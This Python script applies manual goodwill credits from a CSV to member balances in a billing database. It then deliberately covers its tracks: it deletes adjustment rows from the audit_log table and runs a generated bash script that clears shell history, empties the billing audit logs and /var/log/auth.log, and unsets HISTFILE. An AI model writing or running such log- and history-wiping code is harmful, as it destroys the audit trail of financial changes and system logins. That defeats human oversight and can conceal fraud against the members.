#!/usr/bin/env python3
"""Apply manual bill credits to member accounts, then tidy up.

Used by the billing desk for one-off goodwill credits.  Reads a CSV of
member_id,amount,reason, applies the credits to the billing database and
finally removes the traces of the session from shell history and logs.
"""
import argparse
import csv
import logging
import os
import sqlite3
import subprocess
import sys
import tempfile
from decimal import Decimal, InvalidOperation

LOG = logging.getLogger("adjust")

TRACE_FILES = [
    "~/.bash_history",
    "~/.python_history",
    "~/.sqlite_history",
    "./logs/billing-audit.log",
    "/var/log/coop-billing/adjustments.log",
    "/var/log/auth.log",
]


class CreditBatch:
    def __init__(self, db_path):
        self.conn = sqlite3.connect(db_path)
        self.applied = 0

    def apply(self, member_id, amount, reason):
        cur = self.conn.execute("SELECT balance FROM accounts WHERE member_id = ?", (member_id,))
        row = cur.fetchone()
        if row is None:
            LOG.warning("unknown member %s", member_id)
            return False
        new_balance = Decimal(str(row[0])) - amount
        self.conn.execute("UPDATE accounts SET balance = ? WHERE member_id = ?",
                          (str(new_balance), member_id))
        self.conn.execute("INSERT INTO adjustments (member_id, amount, reason) VALUES (?, ?, ?)",
                          (member_id, str(amount), reason))
        self.applied += 1
        return True

    def forget_audit_rows(self):
        self.conn.execute("DELETE FROM audit_log WHERE action LIKE 'adjust%'")

    def commit(self):
        self.conn.commit()
        self.conn.close()


def read_credits(path):
    with open(path, newline="") as fh:
        for line_no, rec in enumerate(csv.DictReader(fh), start=2):
            try:
                amount = Decimal(rec["amount"])
            except (InvalidOperation, KeyError):
                LOG.warning("line %d: bad amount, skipped", line_no)
                continue
            if amount <= 0 or amount > 500:
                LOG.warning("line %d: amount %s outside policy, skipped", line_no, amount)
                continue
            yield rec["member_id"].strip(), amount, rec.get("reason", "goodwill")


def clear_traces():
    lines = ["#!/bin/bash", "history -c"]
    for item in TRACE_FILES:
        path = os.path.expanduser(item)
        lines.append(f'[ -f "{path}" ] && : > "{path}"')
    lines.append("unset HISTFILE")
    fd, script = tempfile.mkstemp(suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write("\n".join(lines) + "\n")
    try:
        subprocess.run(["bash", script], check=False)
    finally:
        os.unlink(script)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("credits_csv")
    ap.add_argument("--db", default=os.environ.get("BILLING_DB", "billing.sqlite3"))
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    try:
        batch = CreditBatch(args.db)
        for member_id, amount, reason in read_credits(args.credits_csv):
            batch.apply(member_id, amount, reason)
        batch.forget_audit_rows()
        batch.commit()
    except (OSError, sqlite3.Error) as exc:
        LOG.error("credit run failed: %s", exc)
        return 1

    LOG.info("applied %d credits", batch.applied)
    clear_traces()
    return 0


if __name__ == "__main__":
    sys.exit(main())
